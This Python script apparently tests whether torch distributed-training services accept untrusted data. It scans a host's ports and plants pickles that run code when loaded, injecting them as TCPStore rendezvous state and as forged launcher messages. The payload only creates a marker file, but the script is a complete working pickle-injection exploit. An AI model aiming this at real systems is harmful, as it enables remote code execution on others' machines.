"""A stranger on the network, without the secret: leaves pickles wherever something listens.

python stranger.py ADDRESS MARKER RUN_ID ...

Whoever unpickles one of them makes the file MARKER. They are sent to every port of ADDRESS that is
open: as the state of torch's elastic rendezvous in a TCPStore, and as messages of our launchers.
"""

from __future__ import annotations

import base64
import json
import os
import pickle
import socket
import sys
import threading
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from functools import partial
from pathlib import Path

import torch.distributed as dist

LOOKS_LIKE_A_SERVICE = [29500, 29600, *range(32768, 61000)]  # ephemeral ports of Linux
ANSWER_S = 3.0


class Bomb:
    """Makes a file when it is unpickled."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple:
        return Path(self.marker).touch, ()


def is_open(address: str, port: int) -> bool:
    with socket.socket() as probe:
        probe.settimeout(ANSWER_S)
        return probe.connect_ex((address, port)) == 0


def into_a_store(address: str, port: int, bomb: bytes, run_ids: list[str]) -> None:
    """As torch's c10d rendezvous keeps its state."""
    timeout = timedelta(seconds=ANSWER_S)
    store = dist.TCPStore(address, port, is_master=False, timeout=timeout, wait_for_workers=False)
    for run_id in run_ids:
        store.set(f"torch.rendezvous.{run_id}", base64.b64encode(bomb).decode())
    print(f"left a pickle in the store at port {port}", flush=True)


def as_messages(address: str, port: int, bomb: bytes) -> None:
    """As launchers talk to each other: a greeting, and then what is not signed."""
    greeting = json.dumps({"nonce": "00" * 32, "has_secret": True}).encode()
    with socket.create_connection((address, port), timeout=ANSWER_S) as connection:
        for message in (greeting, bytes(32) + bomb, bomb):
            connection.sendall(len(message).to_bytes(4, "big") + message)
        while connection.recv(4096):
            pass


def main() -> None:
    address, marker, *run_ids = sys.argv[1:]
    bomb = pickle.dumps(Bomb(marker))
    with ThreadPoolExecutor(32) as pool:
        states = pool.map(lambda port: is_open(address, port), LOOKS_LIKE_A_SERVICE)
        ports = [port for port, state in zip(LOOKS_LIKE_A_SERVICE, states, strict=True) if state]
    print(f"open: {ports}", flush=True)
    # What listens there may never answer, and torch would wait for it without an end.
    attacks = [
        *(partial(into_a_store, address, port, bomb, run_ids) for port in ports),
        *(partial(as_messages, address, port, bomb) for port in ports),
    ]
    threads = [threading.Thread(target=tried, args=[attack], daemon=True) for attack in attacks]
    for thread in threads:
        thread.start()
    deadline = time.monotonic() + 2 * ANSWER_S
    for thread in threads:
        thread.join(max(0.0, deadline - time.monotonic()))
    print("done", flush=True)
    os._exit(0)  # also when one of them still waits


def tried(attack: Callable[[], None]) -> None:
    try:
        attack()
    except Exception as error:  # whatever refuses it
        print(f"refused: {type(error).__name__}", flush=True)


if __name__ == "__main__":
    main()
